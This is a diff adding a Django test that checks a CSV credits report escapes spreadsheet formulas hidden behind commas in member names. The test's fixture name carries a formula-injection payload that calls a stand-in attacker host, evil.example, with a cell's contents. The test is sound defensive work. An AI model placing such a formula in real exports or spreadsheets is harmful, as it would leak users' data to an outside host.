@@ -147,6 +147,30 @@ def test_hostile_member_names_never_run_as_formulas_in_the_report(
     )
 
 
+def test_a_name_cannot_smuggle_a_formula_past_a_comma_in_the_csv(
+    client, event, django_capture_on_commit_callbacks
+):
+    """Excel set to a comma list separator (an English-language Windows or Mac)
+    splits the «;» file's cells at commas too: no piece may start a formula."""
+    import re
+
+    from tests.credits.factories import download_prepared, give_credits
+
+    give_credits(
+        make_member(first_name='Иван,=WEBSERVICE("http://evil.example/"&D9)'), event
+    )
+    client.force_login(make_staff())
+    text = download_prepared(
+        client,
+        f"/admin/credits/events/{event.pk}/report.csv",
+        django_capture_on_commit_callbacks,
+    ).decode("utf-8-sig")
+
+    assert "WEBSERVICE" in text  # the control: the name is there
+    pieces = re.split(r"[,;\n]", text.replace('"', ""))
+    assert not [piece for piece in pieces if piece.lstrip()[:1] in ("=", "+", "-", "@")]
+
+
 # --- fragment caches -------------------------------------------------------------------
 
 
